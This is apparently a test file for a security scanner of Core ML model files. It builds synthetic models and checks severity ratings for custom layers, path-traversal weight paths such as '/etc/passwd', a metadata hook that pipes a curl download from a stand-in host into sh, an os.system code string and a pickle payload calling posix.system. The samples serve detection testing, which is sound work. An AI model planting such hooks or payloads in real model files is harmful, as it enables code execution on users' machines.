import { describe, expect, test } from 'vitest';
import { concat } from '#formats/test-files/bytes';
import { block, entry, int } from '#formats/test-files/onnx';
import { op, reduce, stream } from '#formats/test-files/pickle';
import { scanBytes } from '../test-scan.ts';

const port = (field: number, name: string) => block(field, block(1, name), block(3, block(5, int(2, 65568))));
const described = (...metadata: readonly Uint8Array[]) =>
  block(2, port(1, 'image'), port(10, 'label'), block(100, block(3, 'Ann'), block(4, 'MIT'), ...metadata));
const model = (type: Uint8Array, ...metadata: readonly Uint8Array[]) => concat(int(1, 4), described(...metadata), type);
const layer = (name: string, ...more: readonly Uint8Array[]) => block(1, block(1, name), block(2, 'in'), block(3, 'out'), ...more);
const network = (...layers: readonly Uint8Array[]) => block(500, ...layers);
const plain = layer('dense', block(140, int(1, 4), block(20, block(1, new Uint8Array(4000)))));
const custom = layer('mine', block(500, block(10, 'EvilLayer'), entry(30, 'path', '')));
const program = (type: string, file: string) =>
  block(
    502,
    int(1, 1),
    block(
      2,
      block(1, 'main'),
      block(
        2,
        block(
          3,
          block(1, 'CoreML5'),
          block(2, block(3, block(1, type), block(5, block(1, 'val'), block(2, block(5, block(1, file), int(2, 64)))))),
        ),
      ),
    ),
  );

describe('models of built-in layers are clean and described', () => {
  test.each([
    ['a network', network(plain)],
    ['a pipeline', block(202, block(1, model(network(plain))))],
    ['a program', program('const', '@model_path/weights/weight.bin')],
    ['a tree', block(402, new Uint8Array([10, 2, 8, 1]))],
  ])('%s', (_name, type) => {
    const scan = scanBytes(model(type, entry(100, 'com.github.apple.coremltools.version', '7.1')));
    expect(scan).toMatchObject({
      format: { kind: 'coreml' },
      verdict: 'clean',
      outcome: 'scanned',
      card: { framework: 'Core ML', author: 'Ann', licence: 'MIT' },
    });
  });
});

describe('what the application or the disk must bring is told', () => {
  test.each([
    ['a custom layer', model(network(plain, custom)), 'MDL-CML-001', 'high'],
    ['a custom layer in a pipeline', model(block(202, block(1, model(network(custom))))), 'MDL-CML-001', 'high'],
    ['a custom layer in a branch', model(network(layer('b', block(600, block(1, custom))))), 'MDL-CML-001', 'high'],
    ['a custom model', model(block(555, block(10, 'EvilModel'))), 'MDL-CML-001', 'high'],
    ['a custom operation of a program', model(program('custom_layer', '@model_path/w')), 'MDL-CML-001', 'high'],
    ['a linked model elsewhere', model(block(556, block(1, block(1, block(1, '../../evil.mlmodelc'))))), 'MDL-CML-002', 'high'],
    ['a linked model beside it', model(block(556, block(1, block(1, block(1, 'other.mlmodelc'))))), 'MDL-CML-002', 'medium'],
    ['weights elsewhere', model(program('const', '/etc/passwd')), 'MDL-CML-002', 'high'],
    ['weights that climb', model(program('const', '@model_path/../../x.bin')), 'MDL-CML-002', 'high'],
    ['a command in the metadata', model(network(plain), entry(100, 'hook', 'curl http://x.example/a | sh')), 'MDL-CML-003', 'high'],
    [
      'code as a parameter',
      model(block(555, block(10, 'X'), block(30, block(1, 'k'), block(2, block(20, '__import__("os").system("id")'))))),
      'MDL-CML-003',
      'high',
    ],
    [
      'a pickle among weights',
      model(network(layer('d', block(140, concat(new Uint8Array(2000), stream(reduce('posix', 'system', op.text('id')))))))),
      'MDL-PKL-001',
      'critical',
    ],
    ['a broken message', concat(model(network(plain)), block(500, 'xxx').slice(0, 4)), 'MDL-CML-004', 'medium'],
  ])('%s', (_name, bytes, rule, level) => {
    expect(scanBytes(bytes).severities.get(rule)).toBe(level);
  });
});
